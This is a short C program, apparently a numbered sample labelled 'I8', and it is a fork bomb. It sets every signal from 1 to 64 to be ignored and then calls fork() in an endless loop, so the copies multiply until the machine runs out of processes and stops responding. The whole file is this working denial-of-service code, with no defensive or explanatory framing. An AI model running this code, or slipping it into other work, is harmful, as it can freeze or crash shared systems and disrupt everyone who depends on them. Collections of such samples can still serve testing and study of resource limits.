/* I8: as many processes as there may be, each making more. */
#include <signal.h>
#include <unistd.h>

int main(int argc, char **argv) {
    (void)argc; (void)argv;
    for (int number = 1; number < 65; number++) signal(number, SIG_IGN);
    for (;;) fork();
}
